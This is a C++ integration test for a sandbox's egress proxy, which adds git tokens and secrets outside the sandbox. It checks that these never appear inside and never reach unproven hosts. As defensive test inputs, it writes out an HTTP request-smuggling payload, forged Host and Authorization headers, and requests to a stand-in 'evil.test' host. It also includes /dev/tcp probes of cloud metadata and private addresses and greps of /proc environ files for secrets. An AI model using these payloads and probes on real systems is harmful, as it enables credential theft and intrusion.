// Secrets kept outside the sandbox (runtimes/sandbox/init/egress_proxy.hpp): a git provider token and a
// secret of sandbox.secrets reach a test host's HTTPS git server (198.51.100.2, in a network namespace
// made here, names from the test's own DNS server) through the sandbox's egress proxy, while nothing
// inside holds them. Attacked: a server that cannot prove the secret's name, another name on the same
// address, a Host header other than the connection's, a connection made to the proxy itself, a request
// that brings its own Authorization. Real pasta, nftables, OpenSSL, git and curl.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>

#include <actionhost/client/errors.hpp>

#include "network_test_host.hpp"
#include "runtime_harness.hpp"
#include "support/host_process.hpp"
#include "support/run_process.hpp"
#include "support/temp_dir.hpp"

using namespace runtimes_test;
using actionhost::client::Config;
using actionhost::testing::source_path;
using nlohmann::json;

namespace {

int sh(const std::string &command) {
    const int status = std::system((command + " >/dev/null 2>&1").c_str());
    return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

std::string read_all(const std::string &path) {
    std::ifstream in(path);
    std::stringstream s;
    s << in.rdbuf();
    return s.str();
}

bool can_run() {
    return geteuid() == 0 && sh("command -v pasta") == 0 && sh("command -v ip") == 0 && sh("command -v dnsmasq") == 0 &&
           sh("command -v openssl") == 0 && sh("command -v git") == 0 && sh("command -v curl") == 0;
}

// A CA of the test's, a certificate it signs for git.test and plain.test, and a self-signed one for
// evil.test that no one trusts; a bare repository with one commit.
struct TestPki {
    actionhost::testing::TempDir dir;
    bool ok = false;
    TestPki() {
        const std::string d = dir.path();
        ok = sh("cd " + d + " && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key -out ca.crt -days 2 "
                "-subj /CN=actionhost-test-ca") == 0 &&
             sh("cd " + d + " && openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout git.key -out git.csr -subj /CN=git.test") == 0 &&
             sh("cd " + d + " && printf 'subjectAltName=DNS:git.test,DNS:plain.test\\n' > san.ext && "
                "openssl x509 -req -in git.csr -CA ca.crt -CAkey ca.key -CAcreateserial -out git.crt -days 2 -extfile san.ext") == 0 &&
             sh("cd " + d + " && openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout evil.key -out evil.crt -days 2 "
                "-subj /CN=evil.test -addext subjectAltName=DNS:evil.test") == 0 &&
             sh("cd " + d + " && git init -q --bare repos/repo.git && git init -q seed && cd seed && echo first > README && git add README && "
                "git -c user.name=t -c user.email=t@t commit -qm first && git push -q ../repos/repo.git HEAD:refs/heads/main && "
                "git --git-dir=../repos/repo.git symbolic-ref HEAD refs/heads/main") == 0;
    }
    std::string path(const std::string &name) const { return dir.path() + "/" + name; }
};

// The git server on `address`:443 with `cert`, logging into `log`; true once it answers.
bool serve_git(NetworkTestHost &host, const TestPki &pki, const std::string &address, const std::string &cert, const std::string &token,
               const std::string &log) {
    if (host.spawn({"/usr/bin/python3", source_path("tests/integration/runtimes/git_https_server.py"), "--address", address, "--cert",
                    pki.path(cert + ".crt"), "--key", pki.path(cert + ".key"), "--token", token, "--repos", pki.path("repos"), "--log", log}) < 0)
        return false;
    for (int i = 0; i < 100; ++i, usleep(50000))
        if (sh("/usr/bin/python3 -c \"import socket; socket.create_connection(('" + address + "', 443), 1)\"") == 0) return true;
    return false;
}

// The requests the server at `log` saw for `path`, as its JSON lines.
std::vector<json> seen(const std::string &log, const std::string &path_prefix) {
    std::vector<json> out;
    std::istringstream lines(read_all(log));
    for (std::string line; std::getline(lines, line);) {
        const auto j = json::parse(line, nullptr, false);
        if (j.is_object() && j.value("path", "").rfind(path_prefix, 0) == 0) out.push_back(j);
    }
    return out;
}

std::string content(actionhost::client::Runtime &rt, const std::string &command) { return run(rt, command, 60).value("content", ""); }

// The test host with its git servers: git.test and plain.test on 198.51.100.2 (a certificate of the
// test's CA), evil.test on 198.51.100.3 (a certificate of its own), the test's DNS server naming them.
struct Testbed {
    TestPki pki;
    NetworkTestHost host;
    const std::string token = "ghp_ahTestToken" + std::to_string(getpid()) + "x7Q", other = "sk-ahOtherSecret" + std::to_string(getpid());
    const std::string git_log = pki.path("git.log"), evil_log = pki.path("evil.log");
    bool ok = pki.ok && host.ok() && host.add_address("198.51.100.3") &&
              host.serve_dns({{"git.test", "198.51.100.2"}, {"plain.test", "198.51.100.2"}, {"evil.test", "198.51.100.3"}}) &&
              serve_git(host, pki, "198.51.100.2", "git", token, git_log) && serve_git(host, pki, "198.51.100.3", "evil", token, evil_log);
};

// A pattern grep finds `value` with and its own command line does not match.
std::string unmatched_by_itself(const std::string &value) { return value.substr(0, 4) + "[" + value.substr(4, 1) + "]" + value.substr(5); }

}  // namespace

TEST(SandboxSecrets, TokensReachTheirHostsAndNeverTheSandbox) {
    if (!can_run()) GTEST_SKIP() << "needs root, pasta, ip, dnsmasq, openssl, git and curl";
    Testbed bed;
    ASSERT_TRUE(bed.ok) << "the test host, its certificates, DNS or git servers";
    const std::string &token = bed.token, &other = bed.other, &git_log = bed.git_log, &evil_log = bed.evil_log;
    TestPki &pki = bed.pki;

    ::setenv("GITHUB_TOKEN", token.c_str(), 1);
    ::setenv("GITHUB_HOST", "git.test", 1);
    std::unique_ptr<StartedRuntime> s;
    try {
        s = start_runtime("sandbox", [&](Config &c) {
            c.set("sandbox.network", "internet");
            c.set("sandbox.dns", json::array({"198.51.100.2"}));
            c.set("sandbox.upstream_ca_file", pki.path("ca.crt"));
            c.set("sandbox.secrets", json{{"evil_key", {{"value", other}, {"hosts", json::array({"evil.test"})}}}});
        });
    } catch (...) {
        ::unsetenv("GITHUB_TOKEN");
        ::unsetenv("GITHUB_HOST");
        throw;
    }
    ::unsetenv("GITHUB_TOKEN");
    ::unsetenv("GITHUB_HOST");
    auto &rt = *s->runtime;

    // git over HTTPS, both ways, with the token the server demands — added on the way out.
    const auto cloned = run(rt, "cd /tmp && git clone -q https://git.test/repo.git && cd repo && cat README && echo second >> README && "
                                "git -c user.name=a -c user.email=a@a commit -qam second && git push -q origin HEAD:main && echo pushed 2>&1",
                            120);
    EXPECT_EQ(exit_code(cloned), 0) << cloned.dump();
    EXPECT_NE(cloned.value("content", "").find("pushed"), std::string::npos) << cloned.dump();
    std::string pushed;
    {
        FILE *p = popen(("git --git-dir=" + pki.path("repos/repo.git") + " log -1 --format=%s main").c_str(), "r");
        char buf[256] = {};
        if (p != nullptr && fgets(buf, sizeof buf, p) != nullptr) pushed = buf;
        if (p != nullptr) pclose(p);
    }
    EXPECT_EQ(pushed, "second\n") << "the push did not reach the server";
    const auto git_requests = seen(git_log, "/repo.git/");
    ASSERT_FALSE(git_requests.empty());
    for (const auto &r : git_requests) EXPECT_TRUE(r["authorization"].is_string()) << "a git request went without the token: " << r.dump();

    // The sandbox's own word is replaced, not trusted; the answer never carries the token back.
    EXPECT_EQ(content(rt, "curl -s https://git.test/whoami"), "authorized");
    EXPECT_EQ(content(rt, "curl -s -H 'Authorization: Basic eC1hY2Nlc3MtdG9rZW46Z3Vlc3M=' https://git.test/whoami"), "authorized");

    // Another name on the same address: relayed untouched, end to end (the sandbox does not trust the
    // test's CA: -k), and the server sees no credentials.
    EXPECT_EQ(content(rt, "curl -sk https://plain.test/whoami"), "anonymous");
    // The connection's name is git.test; a request inside it for another name is refused, not sent.
    EXPECT_NE(content(rt, "curl -s -o /dev/null -w '%{http_code}' -H 'Host: plain.test' https://git.test/whoami"), "200");
    // A server that cannot prove it is evil.test (its certificate is its own): nothing sent, 502.
    EXPECT_EQ(content(rt, "curl -s -o /dev/null -w '%{http_code}' https://evil.test/whoami"), "502");
    EXPECT_TRUE(seen(evil_log, "/").empty()) << "the unproven server got a request: " << read_all(evil_log);
    // A connection made to the proxy itself goes nowhere.
    EXPECT_NE(content(rt, "curl -sk --max-time 5 --resolve git.test:61443:127.0.0.1 https://git.test:61443/whoami; echo \" rc=$?\""),
              " rc=0");
    // Requests the proxy will not send with a secret, each answered here and never relayed: a repeated
    // Transfer-Encoding (read one way here and another by a server that merges it: smuggling), an
    // absolute-form target naming another origin, a second Host, TRACE (it echoes the request).
    const auto raw = [&](const std::string &request) {
        return content(rt, "python3 -c \"import socket, ssl; s = ssl.create_default_context().wrap_socket(socket.create_connection(('git.test', 443), 5), "
                           "server_hostname='git.test'); s.sendall(bytes.fromhex('" + [&] {
                               std::string hex;
                               char b[3];
                               for (unsigned char ch : request) {
                                   std::snprintf(b, sizeof b, "%02x", ch);
                                   hex += b;
                               }
                               return hex;
                           }() + "')); print(s.recv(200).split(b'\\r\\n')[0].decode())\" 2>&1 | tail -1");
    };
    EXPECT_EQ(raw("POST /first HTTP/1.1\r\nHost: git.test\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n"
                  "0\r\n\r\nPOST /store HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 160\r\n\r\n"),
              "HTTP/1.1 400 Bad Request");
    EXPECT_EQ(raw("GET https://evil.test/whoami HTTP/1.1\r\nHost: git.test\r\n\r\n"), "HTTP/1.1 400 Bad Request");
    EXPECT_EQ(raw("GET /whoami HTTP/1.1\r\nHost: git.test\r\nHost: evil.test\r\n\r\n"), "HTTP/1.1 421 Misdirected Request");
    EXPECT_EQ(raw("TRACE /whoami HTTP/1.1\r\nHost: git.test\r\n\r\n"), "HTTP/1.1 400 Bad Request");
    EXPECT_EQ(raw("GET /whoami HTTP/1.1\r\nHost: git.test\r\n\r\n"), "HTTP/1.1 200 OK") << "the raw client itself";
    for (const auto &r : seen(git_log, "")) {
        EXPECT_EQ(r.value("path", "").find("store"), std::string::npos) << "a smuggled request reached the server: " << r.dump();
        EXPECT_EQ(r.value("path", "").find("https:"), std::string::npos) << r.dump();
    }
    // A server that reflects the credentials in a response header: the header does not come back as it is.
    const std::string echoed = content(rt, "curl -s -D - -o /dev/null https://git.test/echo-header | grep -i '^x-echo'");
    EXPECT_EQ(echoed.find("Basic"), std::string::npos) << echoed;
    EXPECT_NE(echoed.find("removed by actionhost"), std::string::npos) << echoed;
    // Plain http to the secret's host: never given the secret (8080: the host's plain web server).
    EXPECT_EQ(content(rt, "curl -s http://git.test:8080/ | head -1"), "test-host-page");

    // Nowhere inside: not the environment, not a file, not any process's environment or command line.
    for (const std::string &value : {token, other}) {
        const std::string secret = unmatched_by_itself(value);
        const auto hunt = run(rt, "env | grep -c -- '" + secret + "'; grep -rl -- '" + secret +
                                      "' /proc/[0-9]*/environ /proc/[0-9]*/cmdline ~/.bashrc /etc /tmp /workspace /run 2>/dev/null | head -3; "
                                      "git -C /tmp/repo config --list | grep -c -- '" + secret + "'; true",
                              60);
        EXPECT_EQ(hunt.value("content", ""), "0\n0") << "found inside: " << hunt.dump();
    }
    // And the file that carried them to ah-sandbox-init is gone.
    std::string run_dir = rt.url().substr(std::string("unix://").size());
    run_dir = run_dir.substr(0, run_dir.rfind('/'));
    EXPECT_FALSE(std::filesystem::exists(run_dir + "/secrets.json"));
}

namespace {


}  // namespace

// The same promises when the caller is an unprivileged user of the machine (nobody), through ahctl, with
// the sandbox's user (not root) inside: the test host and the secrets' hosts reachable, git over HTTPS
// with the token, the machine (a loopback service, its address on the test's link, an abstract socket),
// the metadata address and a private range not, and no secret inside. pasta opens /dev/net/tun as the
// caller: this machine's is root's alone (Debian's is 0666), so nobody gets a 0666 node of the same
// device in a mount namespace of its own — nothing of the machine changes.
TEST(SandboxSecrets, AnUnprivilegedCallersSandboxKeepsEveryPromise) {
    if (!can_run() || sh("command -v setpriv") != 0 || sh("command -v unshare") != 0) GTEST_SKIP() << "needs root, pasta, ip, dnsmasq, setpriv";
    Testbed bed;
    ASSERT_TRUE(bed.ok) << "the test host, its certificates, DNS or git servers";
    int loopback_port = 0, machine_port = 0;
    const int loopback = listen_tcp("127.0.0.1", &loopback_port), machine = listen_tcp(NetworkTestHost::kMachineEnd, &machine_port);
    ASSERT_GE(loopback, 0);
    ASSERT_GE(machine, 0);
    const std::string abstract_name = "ah-secrets-test-" + std::to_string(getpid());
    const int abstract = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_un un{};
    un.sun_family = AF_UNIX;
    std::memcpy(un.sun_path + 1, abstract_name.data(), abstract_name.size());
    ASSERT_EQ(bind(abstract, reinterpret_cast<sockaddr *>(&un), static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + abstract_name.size())), 0);
    ASSERT_EQ(listen(abstract, 4), 0);

    actionhost::testing::TempDir caller("nobody");
    const std::string home = caller.path() + "/home", tun = caller.path() + "/tun", config = home + "/config.toml";
    ASSERT_EQ(sh("chmod 0755 " + caller.path() + " " + bed.pki.dir.path() + " && chmod 0644 " + bed.pki.path("ca.crt") + " && mkdir -p " + home +
                 " && mknod -m 0666 " + tun + " c 10 200"),
              0);
    std::ofstream(config) << "[sandbox]\nnetwork = \"internet\"\ndns = [\"198.51.100.2\"]\nupstream_ca_file = \"" << bed.pki.path("ca.crt")
                          << "\"\n[sandbox.secrets.evil_key]\nvalue = \"" << bed.other << "\"\nhosts = [\"evil.test\"]\n";
    ASSERT_EQ(sh("chmod 0600 " + config + " && chown -R 65534:65534 " + home), 0);
    std::string script = "probe() { timeout 10 bash -c \"exec 3<>/dev/tcp/$1/$2\" 2>/dev/null && echo open || echo closed; }; id -un; cd /tmp && git clone -q https://git.test/repo.git && cd repo && git -c user.name=u -c user.email=u@u commit -q "
                         "--allow-empty -m third && git push -q origin HEAD:main && echo pushed; curl -s https://git.test/whoami; "
                         "curl -s -o /dev/null -w 'evil %{http_code}\\n' https://evil.test/whoami; "
                         "echo host $(probe 198.51.100.2 8080); echo loopback $(probe 127.0.0.1 " + std::to_string(loopback_port) + "); "
                         "echo machine $(probe " + NetworkTestHost::kMachineEnd + " " + std::to_string(machine_port) + "); "
                         "echo metadata $(probe 169.254.169.254 80); echo private $(probe 10.0.0.1 80); "
                         "echo abstract $(python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0" + abstract_name +
                         "'); print('open')\" 2>/dev/null || echo closed); "
                         "echo found $(env | grep -c -- '" + unmatched_by_itself(bed.token) + "') $(grep -rl -- '" + unmatched_by_itself(bed.token) +
                         "' /proc/[0-9]*/environ /proc/[0-9]*/cmdline ~/.bashrc /etc /tmp /workspace 2>/dev/null | wc -l) $(grep -rl -- '" +
                         unmatched_by_itself(bed.other) + "' /proc/[0-9]*/environ /etc /tmp 2>/dev/null | wc -l)";
    const std::string as_nobody = "mount --bind " + tun + " /dev/net/tun && exec setpriv --reuid 65534 --regid 65534 --clear-groups env HOME=" +
                                  home + " GITHUB_TOKEN=" + bed.token + " GITHUB_HOST=git.test " +
                                  actionhost::testing::build_path("bin/ahctl") + " -c " + config + " --state-dir " + home + "/state run -- " +
                                  actionhost::testing::sh_word(script);
    const auto result = actionhost::testing::run_process({"unshare", "-m", "--propagation", "private", "sh", "-c", as_nobody}, 240);
    const std::string &out = result.output;
    EXPECT_EQ(result.exit_code, 0) << out;
    for (const char *line : {"openhands\n", "pushed\n", "authorized\n", "evil 502\n", "host open\n", "loopback closed\n", "machine closed\n",
                             "metadata closed\n", "private closed\n", "abstract closed\n", "found 0 0 0\n"})
        EXPECT_NE(out.find(line), std::string::npos) << "expected \"" << line << "\" in:\n" << out;
    EXPECT_TRUE(seen(bed.evil_log, "/").empty()) << read_all(bed.evil_log);
    close(loopback);
    close(machine);
    close(abstract);
}
